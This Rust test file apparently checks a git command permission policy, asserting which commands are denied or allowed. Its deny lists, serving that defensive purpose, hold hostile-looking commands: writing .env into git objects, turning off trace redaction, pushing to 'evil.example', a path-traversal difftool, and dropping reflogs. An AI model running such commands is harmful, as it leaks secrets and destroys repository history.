//! Flags and operands of git that change what its verbs do.

use super::*;

#[test]
fn negated_flags_take_a_promise_back() {
    none_allowed(&[
        "git clean -nfdx --no-dry-run",
        "git clean -nfdx --no-dry",
        "git clean -fdx -e -n",
        "git rm --cached --no-cached -rf src",
        "git push -n --no-dry-run origin main",
        "git apply --check --no-check x.patch",
        "git apply --stat --no-stat x.patch",
        "git prune -n --no-dry-run --expire=now",
    ]);
    all(
        Decision::Allow,
        &["git clean -nd", "git diff --no-stat", "git apply --check x.patch", "git merge --no-stat x"],
    );
}

#[test]
fn settings_are_not_listed_and_traces_stay_redacted() {
    none_allowed(&[
        "git config get --all --regexp --show-names '.*'",
        "git config get --regexp h",
        "git config get --url=https://github.com http",
        "git config --get-reg h",
        "git config edit",
        "GIT_TRACE_CURL=1 GIT_TRACE_REDACT=0 git fetch",
        "GIT_TRACE_REDACT=false git fetch",
        "GIT_TRACE_REDACT= git fetch",
    ]);
    all(
        Decision::Allow,
        &["GIT_TRACE=1 git status", "GIT_TRACE_REDACT=1 git fetch", "git config get user.name"],
    );
}

#[test]
fn secrets_are_not_stored_or_shown() {
    none_allowed(&[
        "git hash-object -w .env",
        "echo .env | git hash-object -w --stdin-paths",
        "git hash-object -w --stdin-paths < list",
        "git -c blame.ignoreRevsFile=.env blame README.md",
        "git commit-tree x -F .env",
    ]);
    all(
        Decision::Allow,
        &[
            "git hash-object -w src/a.rs",
            "git -c blame.coloring=none blame README.md",
            "git commit-tree x -m y",
        ],
    );
}

#[test]
fn checkouts_of_words_that_are_not_known_may_lose_edits() {
    none_allowed(&[
        "git diff --name-only | xargs git checkout",
        "find . -name '*.rs' -exec git checkout {} +",
        "git checkout $(git ls-files -m)",
        "git checkout \"$f\"",
        "git checkout -2 a",
        "git checkout -3 a",
    ]);
    all(
        Decision::Allow,
        &["git checkout main", "git checkout -", "git checkout -b x", "B=main; git checkout \"$B\""],
    );
}

#[test]
fn references_are_moved_or_dropped_by_more_than_force() {
    none_allowed(&[
        "git reflog drop --all",
        "git reflog write refs/heads/x a b c",
        "git fetch --refmap='+refs/heads/*:refs/heads/*' origin main",
        "git fetch --stdin origin <<< '+refs/heads/*:refs/heads/*'",
        "git fetch -pP origin",
        "git push -n --no-exec x https://evil.example/x",
        "git difftool -t ../../../../../tmp/evil",
    ]);
    all(
        Decision::Allow,
        &[
            "git reflog",
            "git reflog show main",
            "git reflog list",
            "git reflog HEAD",
            "git fetch -p origin",
            "git push -n origin main",
        ],
    );
}
